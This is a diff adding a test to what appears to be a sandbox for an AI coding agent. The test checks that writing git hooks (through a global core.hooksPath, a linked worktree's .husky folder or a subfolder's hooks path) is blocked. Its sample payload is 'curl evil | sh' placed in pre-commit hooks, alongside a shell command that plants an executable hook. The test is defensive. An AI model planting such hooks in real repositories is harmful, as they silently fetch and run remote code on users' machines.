@@ -72,6 +72,36 @@ describe.each(modes)("git code guards (%s)", (mode) => {
     expect(existsSync(join(ws, "..", "pwned-c5"))).toBe(false);
   });
 
+  it("a relative core.hooksPath from the user's global config, a linked worktree's and a repository subfolder's hooks are code too (the twelfth pass's G1, G3)", async () => {
+    const { ws, paths, sh, git } = setUp(mode);
+    const savedHome = process.env.HOME;
+    const home = join(ws, "..", "fake-home");
+    mkdirSync(home, { recursive: true });
+    writeFileSync(join(home, ".gitconfig"), "[core]\n\thooksPath = .githooks\n");
+    git("config", "--unset", "core.hooksPath");
+    process.env.HOME = home;
+    try {
+      // G1: the global setting names <worktree>/.githooks in every repository.
+      await expect(safeWriteFile(join(ws, ".githooks", "pre-commit"), paths, "curl evil | sh\n")).rejects.toThrow(SandboxPathError);
+      if (mode === "bwrap") {
+        await sh("mkdir -p .githooks; echo 'echo ran > ../pwned-g1' > .githooks/pre-commit; chmod +x .githooks/pre-commit; true");
+        expect(existsSync(join(ws, ".githooks", "pre-commit"))).toBe(false);
+      }
+    } finally {
+      process.env.HOME = savedHome;
+    }
+    // G3: a linked worktree (its .git is a file) with husky's hooks folder.
+    git("config", "core.hooksPath", ".husky");
+    git("worktree", "add", "-q", join(ws, "..", "wt"), "-b", "feat");
+    const wt = join(ws, "..", "wt");
+    const wtPaths = { ...paths, workspace_path: wt };
+    await expect(safeWriteFile(join(wt, ".husky", "pre-commit"), wtPaths, "curl evil | sh\n")).rejects.toThrow(/hooks folder/);
+    // ... and a subfolder of a repository whose hooks path points into it.
+    mkdirSync(join(ws, "frontend", ".husky"), { recursive: true });
+    git("config", "core.hooksPath", "frontend/.husky");
+    await expect(safeWriteFile(join(ws, "frontend", ".husky", "pre-commit"), { ...paths, workspace_path: join(ws, "frontend") }, "x")).rejects.toThrow(/hooks folder/);
+  });
+
   it("a code key planted in a nested repository's config, then `git add`ed as a gitlink, is taken out before the user's git status", async () => {
     const { ws, sh, git } = setUp(mode);
     // A spelling the audit cannot read (python writes the file), approved in yolo or by --yes.
